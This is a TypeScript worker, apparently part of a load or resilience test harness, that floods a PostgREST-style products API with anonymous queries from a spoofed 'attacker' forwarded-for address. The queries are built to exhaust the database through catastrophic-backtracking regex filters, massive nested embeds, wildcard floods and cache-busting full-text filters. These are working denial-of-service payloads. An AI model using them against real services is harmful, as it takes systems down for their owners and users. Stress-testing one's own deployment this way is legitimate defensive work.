import { constants, setPriority } from 'node:os'
import { setTimeout as pause } from 'node:timers/promises'
import type { BotJob } from './bot-worker.ts'
import { createVisitor } from './visitor.ts'

/** How many questions are open at once. */
const connections = 40
/** A connection asks no oftener than this, ms: it is the questions that hurt, not their number. */
const everyMs = 250
const attacker = '10.66.6.6'

const many = (count: number, one: (index: number) => string): string =>
  Array.from({ length: count }, (_, index) => one(index)).join(',')
const letter = (index: number): string => 'xqzjvkwy'[index % 8] ?? 'x'

/** Each is anonymous, and small to send. */
const questions = [
  // Repetitions of repetitions: seconds of a database session.
  `/rest/v1/products?select=id&or=(${many(150, (n) => `description.match."((${letter(n)}{1,25}){1,25}){1,${12 + (n >> 3)}}"`)})`,
  `/rest/v1/products?select=id&or=(${many(60, (n) => `description.imatch."((${letter(n)}{1,25}){1,25}){1,${12 + (n >> 3)}}"`)})`,
  // 11 kB that ask for 14 MB or more.
  `/rest/v1/products?select=${many(380, (n) => `a${n}:prices(*,products(*))`)}`,
  `/rest/v1/products?select=${'*,prices(*,products('.repeat(4)}*${'))'.repeat(4)}`,
  // What remains to whoever may not use patterns.
  `/rest/v1/products?select=*&or=(${many(190, (n) => `description.ilike.*${'%25_'.repeat(6)}${letter(n)}*`)})`,
  `/rest/v1/products?select=*,${many(20, (n) => `a${n}:prices(*)`)}&order=${many(20, () => 'description.desc')}`,
  `/rest/v1/products?select=*&or=(${'and(or('.repeat(4)}id.not.is.null${'))'.repeat(4)})`,
]

/** What costs most of all that is allowed; other words at each call, so that nothing can be remembered. */
const allowedQuestions: ((call: number) => string)[] = [
  (call) =>
    `/rest/v1/products?select=prices(products(${many(95, (n) => `a${n}_${call}:description`)}))`,
  (call) =>
    `/rest/v1/products?and=(${many(100, (n) => `description.not.phfts.the%20sauce%20z${call}x${n}`)})`,
  (call) =>
    `/rest/v1/prices?select=a${call}:id,products(id)&order=${many(98, (n) => `products(tags->>${n}).desc`)}`,
]

function questionOf(call: number): string {
  const index = call % (questions.length + allowedQuestions.length)
  return questions[index] ?? allowedQuestions[index - questions.length]?.(call) ?? '/'
}

/** The process of one client that takes what it can get. Its argument is a BotJob as JSON; it prints how often it asked. */
const job: BotJob = JSON.parse(process.argv[2] ?? '')
// It has a machine of its own; of this one it gets what the shop and its visitors leave.
setPriority(constants.priority.PRIORITY_LOW)
const { ask, leave } = createVisitor(job.url, {
  apikey: job.apikey,
  'x-forwarded-for': attacker,
})
const end = performance.now() + job.ms
let asked = 0
await Promise.all(
  Array.from({ length: connections }, async () => {
    while (performance.now() < end) {
      const { ms } = await ask(questionOf(asked++))
      await pause(Math.max(0, everyMs - ms))
    }
  }),
)
leave()
process.stdout.write(String(asked))
